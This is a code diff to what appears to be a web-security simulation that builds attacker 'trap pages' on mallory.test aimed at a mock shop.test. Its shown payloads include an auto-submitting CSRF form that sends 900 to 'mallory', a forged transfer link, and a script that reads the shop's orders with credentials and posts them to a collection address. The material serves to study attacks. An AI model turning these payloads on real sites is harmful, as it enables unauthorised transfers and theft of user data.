@@ -1,6 +1,7 @@
 /** Mallory's own web site, https://mallory.test, and blog.shop.test, a subdomain of the shop that he took over. */
 import type { Page } from '../browser/index.ts'
 import type { Trap } from '../scenario/index.ts'
+import { paths } from '../server/index.ts'
 import { COLLECT, MALLORY, SIBLING } from './addresses.ts'
 
 const SHOP = 'https://shop.test'
@@ -15,18 +16,18 @@ export interface TrapPage {
 
 const loadedScript = (text: string) => `<!doctype html><title>Win a holiday!</title>\n${text}`
 
-const transferForm = loadedScript(`<form method="post" action="${SHOP}/transfer">
+const transferForm = loadedScript(`<form method="post" action="${SHOP}${paths.transfer}">
   <input name="to" value="mallory"><input name="amount" value="900">
 </form>
 <script>document.forms[0].submit()</script>`)
 
 const submitTransfer = (page: Page) =>
-  page.submit({ action: `${SHOP}/transfer`, method: 'POST', fields: { to: 'mallory', amount: '900' } })
+  page.submit({ action: `${SHOP}${paths.transfer}`, method: 'POST', fields: { to: 'mallory', amount: '900' } })
 
-const transferLink = `${SHOP}/transfer?to=mallory&amount=900`
+const transferLink = `${SHOP}${paths.transfer}?to=mallory&amount=900`
 
 async function readAcrossOrigins(page: Page): Promise<void> {
-  const answer = await page.fetch(`${SHOP}/orders`, { credentials: 'include' })
+  const answer = await page.fetch(`${SHOP}${paths.orders}`, { credentials: 'include' })
   if (answer.readable && answer.status === 200) {
     await page.fetch(COLLECT, { method: 'POST', mode: 'no-cors', body: answer.body })
   }
@@ -47,7 +48,7 @@ export const trapPages: Readonly<Record<Trap, TrapPage>> = {
   'cross-origin-read': {
     url: `${MALLORY}/read`,
     html: loadedScript(`<script type="module">
-const answer = await fetch('${SHOP}/orders', { credentials: 'include' })
+const answer = await fetch('${SHOP}${paths.orders}', { credentials: 'include' })
 await fetch('${COLLECT}', { method: 'POST', mode: 'no-cors', body: await answer.text() })
 </script>`),
     script: readAcrossOrigins,
